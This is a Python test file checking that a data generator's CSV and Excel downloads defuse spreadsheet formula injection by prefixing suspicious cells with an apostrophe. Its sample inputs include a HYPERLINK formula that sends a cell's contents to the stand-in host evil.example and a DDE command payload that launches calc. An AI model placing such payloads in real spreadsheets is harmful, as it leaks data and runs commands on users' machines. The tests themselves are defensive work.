"""Downloads and the fill-in workbook: a text that looks like a formula never runs when opened in Excel."""

import csv
import io
import zipfile

import openpyxl

from generator.render.downloads import COLUMNS, to_csv, to_xlsx
from generator.render.results_table import COLUMNS as TYPED
from generator.render.spreadsheet import download_text

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def row(note: str, value_text: str = "99.2", number: float | None = 99.2) -> list:
    cells = {c.name: None if c.type in ("integer", "number") else "" for c in TYPED}
    cells.update({"数值（原文写法）": value_text, "数值": number, "说明": note, "年份": 2022})
    return [cells[c] for c in COLUMNS]


def test_download_text_prefixes_formula_starts_and_leaves_plain_numbers():
    assert [download_text(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert download_text("-0.5") == "-0.5" and download_text("+3") == "+3" and download_text("99.2%") == "99.2%"
    assert download_text("说明=1") == "说明=1"


def test_csv_download_cells_are_text_and_numbers_stay_numbers():
    rows = [row(f) for f in FORMULAS] + [row("", "-0.5", -0.5)]
    records = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
    notes = [r[COLUMNS.index("说明")] for r in records[1:]]
    assert notes[:-1] == ["'" + f for f in FORMULAS]
    assert records[-1][COLUMNS.index("数值（原文写法）")] == "-0.5"
    assert records[-1][COLUMNS.index("数值")] == "-0.5"


def test_xlsx_download_has_no_formula_and_neutralises_the_text_as_the_csv_does():
    data = to_xlsx([row(f) for f in FORMULAS], "测试")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data))["指标数据"]
    column = COLUMNS.index("说明") + 1
    cells = [sheet.cell(n, column) for n in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in cells] == ["'" + f for f in FORMULAS]  # the CSV's rule, as text
    assert all(c.data_type == "s" for c in cells)
    assert sheet.cell(2, COLUMNS.index("数值") + 1).value == 99.2  # a number stays a number
